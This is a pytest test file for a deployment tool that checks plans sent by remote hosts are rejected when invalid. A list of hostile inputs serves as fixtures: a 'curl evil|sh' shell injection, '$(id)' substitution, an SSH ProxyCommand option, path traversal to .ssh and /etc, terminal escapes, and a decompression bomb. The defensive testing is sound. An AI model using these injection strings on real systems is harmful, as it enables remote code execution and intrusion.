"""Test how tfdeploy uses the plan of a run that a host sends.

An invalid plan is refused. Even if a plan is valid, tfdeploy connects to hosts with the settings of
this machine, not with those in the plan.
"""

from __future__ import annotations

import hashlib
import json
import zlib
from collections.abc import Callable
from typing import Any

import pytest

from tfdeploy.agent import frames
from tfdeploy.errors import HostFailed, TfdeployError
from tfdeploy.model.answers.runs import RUN_PLAN
from tfdeploy.model.inventory import Host
from tfdeploy.model.plan_files import read_untrusted_plan
from tfdeploy.operations.run_lookup.find_run import hosts_of
from tfdeploy.operations.run_lookup.host_plans import PlanRequest, fetch_plan, make_stop_plan
from tfdeploy.text.typed import StreamingVerb

RUN, JOB = "digits-1", "digits"
INVENTORY = (
    Host(name="n1", address="10.0.0.1", user="ml"),
    Host(name="n2", address="10.0.0.2", user="ml"),
)
OLDER = {
    "name": "n1",
    "address": "6.6.6.6",
    "known_hosts": "/tmp/theirs",
    "identity_file": "/root/.ssh/id",
    "jump": "evil",
}


def older_plan(**changes: Any) -> dict[str, Any]:
    """Return the content of a plan.json as an older version of tfdeploy wrote it. `changes` replace
    some of its fields.
    """
    task = {
        "task": "worker:0",
        "role": "worker",
        "index": 0,
        "host": "n2",
        "address": "10.0.0.2:2222",
        "port": 2222,
    }
    task |= {
        "gpus": [0],
        "argv": ["python", "a\nb"],
        "env": {"A": "1"},
        "deciding": True,
        "why": "why",
    }
    hosts = [
        {
            "host": name,
            "address": f"10.0.0.{number}",
            "mesh_port": 2223,
            "workdir": "/w",
            "python": "/usr/bin/python3",
        }
        for number, name in enumerate(("n1", "n2"), 1)
    ]
    hosts[0]["ssh"] = OLDER
    plan = {
        "run": RUN,
        "job": JOB,
        "mode": "async",
        "created": 1.0,
        "operator": "ml@desk",
        "release": "abc",
        "version": 1,
    }
    plan |= {
        "command": ["python"],
        "cluster": {"worker": ["10.0.0.2:2222"]},
        "hosts": hosts,
        "tasks": [task],
    }
    plan |= {"deciding": ["worker:0"], "flags_appended": ["ps_hosts"], "keep": ["ckpt"]}
    return json.loads(json.dumps({**plan, **changes}))


def host(**changes: Any) -> dict[str, Any]:
    return older_plan(hosts=[{**older_plan()["hosts"][0], **changes}, older_plan()["hosts"][1]])


def task(**changes: Any) -> dict[str, Any]:
    return older_plan(tasks=[{**older_plan()["tasks"][0], **changes}])


class Answer(list[Any]):
    """The answer of an agent that is asked for its plan.json.

    `unless` is the digest of the plan that the client has already, or None. If this is the agent's
    plan, the agent sends nothing. If `plan` is bytes, the agent sends them as they are, even if
    they are no valid answer.
    """

    def __init__(self, plan: Any, unless: str | None) -> None:
        text = json.dumps(plan).encode() if not isinstance(plan, bytes) else b""
        known = bool(text) and hashlib.sha256(text).hexdigest() == unless
        super().__init__([] if known else [({}, frames.compress(text) if text else plan)])

    def close(self) -> None:
        return None


class Hosts:
    """A fake fleet. Each host answers with the plan that is given for it, or raises an error."""

    answer: type[Answer] = Answer

    def __init__(self, **plans: Any) -> None:
        self.plans = plans

    def each(self, hosts: tuple[Host, ...], action: Callable[[Any], Any]) -> dict[str, Any]:
        return {host.name: self._one(host, action) for host in hosts}

    def _one(self, queried_host: Host, action: Callable[[Any], Any]) -> Any:
        plans, answer = self.plans, self.answer

        class Session:
            host = queried_host

            def agent(self) -> Any:
                return self

            def stream(
                self, verb: StreamingVerb[Any, Any], args: dict[str, Any], silence_s: float
            ) -> Any:
                assert verb is RUN_PLAN and {**args, "unless": 0} == {
                    "run": RUN,
                    "job": JOB,
                    "unless": 0,
                }
                return answer(plans[queried_host.name], args.get("unless"))

        try:
            return action(Session())
        except TfdeployError as error:
            return error


def sought(*holders: str, **metrics: str) -> PlanRequest:
    return PlanRequest(
        run=RUN,
        job=JOB,
        holders=tuple(host for host in INVENTORY if host.name in holders),
        inventory_hosts=INVENTORY,
        metrics=metrics,
    )


LIES: dict[str, Any] = {
    "no object": ["plan"],
    "nothing at all": b"",
    "garbage": b"\x1b]0;owned\x07",
    "half of it": frames.compress(json.dumps(older_plan()).encode())[:-9],
    "a gigabyte": zlib.compress(bytes(1 << 30), 9),
    "nested too deep": frames.compress(b'{"hosts":' + b"[" * 100_000),
    "half a number": frames.compress(b'{"created": NaN}'),
    "null": None,
    "another run": older_plan(run="digits-2"),
    "another job": older_plan(job="other"),
    "escapes in the run": older_plan(run="\x1b]0;owned\x07"),
    "a run that leads out": older_plan(run="../../../.ssh"),
    "an unknown mode": older_plan(mode="\x1b[31mred"),
    "a release that leads out": older_plan(release="../../x"),
    "no hosts": older_plan(hosts=[]),
    "a host that leads out": host(host="../../../../.ssh"),
    "a host with a trailing blank": host(host="n1 "),
    "a host with a NUL": host(host="n\0"),
    "a host that is a folder": host(host=".."),
    "an absolute host": host(host="/etc"),
    "an option for a host": host(host="-oProxyCommand=x"),
    "a host of 300 letters": host(host="n" * 300),
    "a host twice": host(host="n2"),
    "an address for a shell": host(address="10.0.0.1;curl evil|sh #"),
    "an empty address": host(address=""),
    "port 0": host(mesh_port=0),
    "port 65536": host(mesh_port=65536),
    "a port that is true": host(mesh_port="22"),
    "a task that leads out": task(task="../x:0", role="../x"),
    "a task that is not its role and index": task(task="worker:1"),
    "a negative index": task(task="worker:-1", index=-1),
    "a task of no host": task(host="n9"),
    "a task on n2 with a blank": task(host="n2 "),
    "an endpoint without a port": task(address="10.0.0.2"),
    "an endpoint for a shell": task(address="$(id):2222"),
    "a task's port": task(port=-5),
    "a GPU": task(gpus=[-1]),
    "a rule nobody knows": task(on_death="never"),
    "the same task twice": older_plan(tasks=older_plan()["tasks"] * 2),
    "a deciding task that is not there": older_plan(deciding=["chief:0"]),
    "keep that leads out": older_plan(keep=["../../.ssh"]),
    "absolute keep": older_plan(keep=["/etc"]),
    "data that leads out": older_plan(data={"d": "/etc"}),
    "a data set's name": older_plan(data={"../d": "data/d"}),
    "a link that leads out": older_plan(links={"../x": "d"}),
    "a role in the cluster": older_plan(cluster={"../worker": ["10.0.0.2:2222"]}),
    "a cluster's address": older_plan(cluster={"worker": ["10.0.0.2:2222\n"]}),
    "a secret's name": older_plan(secrets=["A B"]),
    "no time": older_plan(created=float("nan")),
    "a time that no calendar has": older_plan(created=1e12),
    "an endless grace": older_plan(stop_grace_s=float("inf")),
    "a negative grace": older_plan(stop_grace_s=-1.0),
    "half a character": older_plan(keep=["\ud800"]),
    "a log without end": older_plan(logs_max_bytes=1 << 80),
    "keep from what is no host": older_plan(keep_from="../n7"),
}


@pytest.mark.fault("57 a plan that a host made up")
@pytest.mark.parametrize("lie", LIES, ids=str)
def test_invalid_plan_fails_only_its_host(lie: str) -> None:
    plan, refused = fetch_plan(Hosts(n1=LIES[lie], n2=older_plan()), sought("n1", "n2"))  # type: ignore[arg-type]
    assert [plan_host.host for plan_host in plan.hosts] == ["n1", "n2"] and list(refused) == ["n1"]
    error = refused["n1"]
    assert (
        error.exit_code == 1
        and "is invalid" in error.what
        and error.what.isprintable()
        and len(error.what) < 500
    )
    with pytest.raises(HostFailed, match="is invalid"):
        fetch_plan(Hosts(n1=LIES[lie]), sought("n1"))  # type: ignore[arg-type]


def test_addresses_come_from_inventory_and_metrics_from_this_machine() -> None:
    lies = older_plan(
        metrics={"step": "(a+)+$", "\x1b": "x"}, operator="\x1b[2Jme", notes=["\x1b]52;c;x\x07"]
    )
    plan, refused = fetch_plan(Hosts(n1=lies, n2=lies), sought("n1", "n2", step=r"at (\d+)"))  # type: ignore[arg-type]
    assert hosts_of(plan) == INVENTORY and not refused
    assert plan.metrics == {"step": r"at (\d+)"}
    assert (plan.operator, plan.notes) == ("?[2Jme", ("?]52;c;x?",))
    assert {(plan_host.python, plan_host.workdir) for plan_host in plan.hosts} == {("", "")}


def test_plans_may_have_names_that_are_not_utf8() -> None:
    home = "/home/ml\udcff"
    shown = host(workdir=f"{home}/tfdeploy", python=f"{home}/bin/python")
    shown.update(
        command=["python", "\udcff"], notes=[f"its workdir is {home}"], keep=["ckpt\udcff"]
    )
    plan, refused = fetch_plan(Hosts(n1=shown), sought("n1"))  # type: ignore[arg-type]
    assert (
        not refused and plan.notes == ("its workdir is /home/ml?",) and plan.keep == ("ckpt\udcff",)
    )


def test_host_missing_from_inventory_has_no_address() -> None:
    plan, _ = fetch_plan(Hosts(n1=host(host="n7")), sought("n1"))  # type: ignore[arg-type]
    assert [(host.name, host.address) for host in hosts_of(plan)] == [
        ("n7", ""),
        ("n2", "10.0.0.2"),
    ]


@pytest.mark.fault("62 two hosts hold different plans: both named")
def test_run_with_two_plans_has_no_plan_and_both_hosts_are_stopped() -> None:
    fleet: Any = Hosts(n1=older_plan(stop_grace_s=0.0), n2=host(host="n7"))
    with pytest.raises(
        HostFailed, match=r"2 different plans of digits-1: plan 1 is on n1; plan 2 is on n2"
    ):
        fetch_plan(fleet, sought("n1", "n2"))
    plan = make_stop_plan(fleet, sought("n1", "n2"), ())
    assert {host.name: host.address for host in hosts_of(plan)} == {
        "n1": "10.0.0.1",
        "n2": "10.0.0.2",
        "n7": "",
    }
    assert (plan.run, plan.job, plan.stop_grace_s) == (RUN, JOB, 20.0)


@pytest.mark.fault("62 one host alone shows a plan that leaves a silent host out")
def test_silent_host_is_stopped_unless_two_hosts_have_same_plan() -> None:
    silent = (Host(name="n5", address="10.0.0.5"),)
    plan_of_one = make_stop_plan(Hosts(n1=older_plan()), sought("n1"), silent)  # type: ignore[arg-type]
    assert "n5" in [plan_host.host for plan_host in plan_of_one.hosts]
    plan_of_two = make_stop_plan(
        Hosts(n1=older_plan(), n2=older_plan()), sought("n1", "n2"), silent
    )  # type: ignore[arg-type]
    assert "n5" not in [plan_host.host for plan_host in plan_of_two.hosts]


def test_hosts_with_run_are_stopped_despite_invalid_plans() -> None:
    plan = make_stop_plan(Hosts(n1=["garbage"], n2=None), sought("n1", "n2"), ())  # type: ignore[arg-type]
    assert hosts_of(plan) == INVENTORY and not plan.tasks


def test_runs_of_job_with_longest_name_are_found() -> None:
    job = "j" * 63
    run = f"{job}-20261121-101500-3fa1"
    assert (
        read_untrusted_plan(json.dumps(older_plan(run=run, job=job)).encode(), run, job, {}).run
        == run
    )


def test_common_plan_is_sent_once_and_without_commands_of_tasks() -> None:
    sent: list[bool] = []

    class Counting(Answer):
        def __init__(self, plan: Any, unless: str | None) -> None:
            super().__init__(plan, unless)
            sent.append(bool(self))

    fleet: Any = Hosts(n1=older_plan(), n2=older_plan())
    fleet.answer = Counting
    plan, refused = fetch_plan(fleet, sought("n1", "n2"))
    assert (plan.tasks[0].argv, plan.tasks[0].env, plan.command) == ((), {}, ())
    assert sent == [True, False] and not refused
    sent.clear()
    # The plan of n1 is invalid, so tfdeploy uses the plan of another host.
    fleet.plans = {"n1": b"x", "n2": older_plan(), "n3": older_plan(), "n4": older_plan()}
    many = tuple(Host(name=name, address="10.0.0.1") for name in fleet.plans)
    assert list(
        fetch_plan(fleet, PlanRequest(run=RUN, job=JOB, holders=many, inventory_hosts=many))[1]
    ) == ["n1"] and sent == [
        True,
        True,
        False,
        False,
    ]


def test_unrequested_answer_that_plan_is_same_is_refused() -> None:
    with pytest.raises(HostFailed, match="is invalid"):
        fetch_plan(Hosts(n1=b""), sought("n1"))  # type: ignore[arg-type]
